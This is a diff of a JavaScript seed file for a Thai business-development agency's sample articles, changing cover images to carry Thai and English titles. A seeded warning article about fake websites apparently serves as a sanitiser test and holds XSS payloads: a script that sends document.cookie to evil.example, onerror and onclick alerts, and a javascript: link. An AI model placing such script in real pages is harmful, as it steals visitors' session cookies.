@@ -60,7 +60,7 @@ export function seedArticles(s, count = DEFAULT_ARTICLES) {
       is_success_case: isSuccess, region_id: provinces[pIndex].region_id, province_id: provinces[pIndex].id,
       title_th: titleTh, title_en: titleEn, summary_th: topic.sumTh, summary_en: topic.sumEn,
       body_th: body('th'), body_en: body('en'),
-      cover: image(`/files/covers/article-${id}.svg`, titleEn, AGENCY.en, id),
+      cover: image(`/files/covers/article-${id}.svg`, [titleTh, titleEn], [AGENCY.th, AGENCY.en], id),
       published_at: published, updated_at: published, views: rnd.int(40, 4800),
     });
     if (i % 3 === 0) attach('article', id, `/files/attachments/article-${id}.pdf`, `เอกสารประกอบ: ${titleTh}`, `Document: ${titleEn}`);
@@ -79,7 +79,7 @@ export function seedArticles(s, count = DEFAULT_ARTICLES) {
     body_en: html('The Department of Business Development Promotion, part of the Ministry of Commerce, helps small and medium-sized enterprises compete at home and in world markets.',
       'Vision: Thai entrepreneurs growing sustainably through innovation and fair trade.',
       'Mission: business advice, entrepreneur skills, links to markets and finance, and complete business information services.'),
-    cover: image('/files/covers/about.svg', 'About the Department', AGENCY.en, 0),
+    cover: image('/files/covers/about.svg', ['เกี่ยวกับกรม', 'About the Department'], [AGENCY.th, AGENCY.en], 0),
     published_at: dateTime(-900), updated_at: dateTime(-30), views: 5210,
   });
 
@@ -93,7 +93,7 @@ export function seedArticles(s, count = DEFAULT_ARTICLES) {
     summary_en: 'The Department never asks for fees through links in messages. Check the address before entering any data.',
     body_th: '<p>พบเว็บไซต์ปลอมที่คัดลอกหน้าตาเว็บไซต์ของกรมฯ เพื่อหลอกให้กรอกข้อมูลบัตรประชาชนและรหัสผ่าน</p>\n'
       + '<script>document.title = "hacked"; fetch("https://evil.example/steal?c=" + document.cookie)</script>\n'
-      + '<p><img src="/files/covers/about.svg" alt="ตัวอย่างหน้าเว็บปลอม" onerror="alert(\'xss\')"></p>\n'
+      + '<p><img src="/files/covers/about.th.svg" alt="ตัวอย่างหน้าเว็บปลอม" onerror="alert(\'xss\')"></p>\n'
       + '<p>ห้ามคลิก <a href="javascript:alert(\'xss\')">ลิงก์รับเงินคืนภาษี</a> ที่ส่งมาทาง SMS</p>\n'
       + '<p onclick="alert(1)" style="position:fixed;top:0">หากพบเห็นโปรดแจ้งศูนย์บริการข้อมูลธุรกิจ โทร. 1570</p>',
     body_en: '<p>Fake websites copying the Department\'s pages ask visitors for ID card numbers and passwords.</p>\n'
@@ -101,7 +101,7 @@ export function seedArticles(s, count = DEFAULT_ARTICLES) {
       + '<p><img src="/files/covers/about.svg" alt="Example of a fake page" onerror="alert(\'xss\')"></p>\n'
       + '<p>Never click a <a href="javascript:alert(\'xss\')">tax refund link</a> sent by SMS.</p>\n'
       + '<p onclick="alert(1)" style="position:fixed;top:0">Report such sites to the business information centre on 1570.</p>',
-    cover: image('/files/covers/warning.svg', 'Warning: fake websites', AGENCY.en, 3),
+    cover: image('/files/covers/warning.svg', ['ระวังเว็บไซต์ปลอม', 'Warning: fake websites'], [AGENCY.th, AGENCY.en], 3),
     published_at: dateTime(-2, 10, 0), updated_at: dateTime(-2, 10, 0), views: 812,
   });
 }
